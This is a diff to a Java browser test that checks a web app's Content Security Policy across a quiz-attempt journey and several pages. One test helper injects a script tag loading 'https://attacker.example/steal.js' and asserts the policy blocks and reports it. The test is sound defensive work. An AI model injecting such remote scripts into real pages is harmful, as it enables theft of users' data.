@@ -68,8 +68,11 @@ class ContentSecurityPolicyJourneyTest {
 				browser.click(By.id("start-attempt"));
 				browser.waitFor(By.cssSelector(".question-stage .question-panel"));
 				browser.click(By.id("submit-attempt"));
-				browser.waitFor(By.cssSelector("vaadin-dialog-overlay, vaadin-confirm-dialog-overlay"));
+				browser.waitFor(By.id("confirm-submit"));
 				collect(browser, "attempt with the submit dialog open");
+				browser.click(By.id("confirm-submit"));
+				browser.waitFor(By.id("reviewed-questions"));
+				collect(browser, "result and review");
 				for (String page : List.of("transcript", "certificates", "my-classes", "skills", "profile")) {
 					visit(browser, page, By.tagName("h1"));
 				}
@@ -88,23 +91,31 @@ class ContentSecurityPolicyJourneyTest {
 		assertThat(violations).isEmpty();
 	}
 
-	/** An inline script injected as an attacker would must be blocked, and the block reported here. */
+	/**
+	 * A script from another site, added as injected markup would add it, must be blocked and the block reported
+	 * here: proof that the policy is on and that this test would see a violation.
+	 */
 	@SuppressWarnings("unchecked")
 	private static void policyIsOnAndReported(BrowserJourney browser) throws Exception {
 		JavascriptExecutor js = (JavascriptExecutor) browser.driver;
-		js.executeScript("var s = document.createElement('script'); s.textContent = 'window.__injected = true';"
+		js.executeScript("var s = document.createElement('script'); s.src = 'https://attacker.example/steal.js';"
 				+ " document.body.appendChild(s);");
-		Thread.sleep(300);
-		assertThat(js.executeScript("return window.__injected === true")).as("the injected script ran")
-			.isEqualTo(false);
+		Thread.sleep(500);
 		assertThat((List<Object>) js.executeScript("return window.__cspViolations.splice(0)")).singleElement()
 			.asString()
-			.startsWith("script-src");
+			.startsWith("script-src")
+			.contains("https://attacker.example/steal.js");
 	}
 
 	private void visit(BrowserJourney browser, String path, By ready) throws Exception {
 		browser.open(path);
-		browser.waitFor(ready);
+		try {
+			browser.waitFor(ready);
+		}
+		catch (RuntimeException notShown) {
+			collect(browser, path);
+			throw new AssertionError(path + " did not render; violations so far: " + violations, notShown);
+		}
 		collect(browser, path);
 	}
 
